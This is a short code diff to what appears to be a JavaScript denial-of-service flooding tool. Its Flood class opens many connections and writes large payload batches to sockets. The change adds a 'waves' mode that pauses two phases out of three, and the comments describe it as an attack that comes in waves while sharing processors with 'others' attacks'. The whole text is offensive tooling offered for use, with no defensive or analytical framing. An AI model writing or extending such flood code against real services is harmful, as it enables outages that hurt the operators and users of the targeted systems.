@@ -9,6 +9,7 @@ const AT_ONCE = 50; // connections being opened
 const BATCH_BYTES = 256 << 10; // written before the next look at the socket
 const TICK_MS = 10;
 const RENEW_MS = 200; // between the end of a burst and the next connection
+const PHASE_MS = 10_000; // of an attack that comes in waves
 const SKIPPED = 4096; // payloads above are not looked at
 
 const sessions = [];
@@ -85,6 +86,10 @@ class Flood {
     let left = count;
     while (left > 0 && !isOver) {
       if (this.session.end) return false;
+      if (this.#isResting()) {
+        await sleep(TICK_MS);
+        continue;
+      }
       const batch = [];
       let size = 0;
       while (left > 0 && size < BATCH_BYTES) {
@@ -97,6 +102,11 @@ class Flood {
       this.sent += batch.length;
     }
     return !this.session.end;
+  }
+
+  /** In waves, two phases of three are quiet: others' attacks need the processors too. */
+  #isResting() {
+    return this.options.isInWaves && Math.floor(performance.now() / PHASE_MS) % 3 !== 0;
   }
 
   async #drained() {
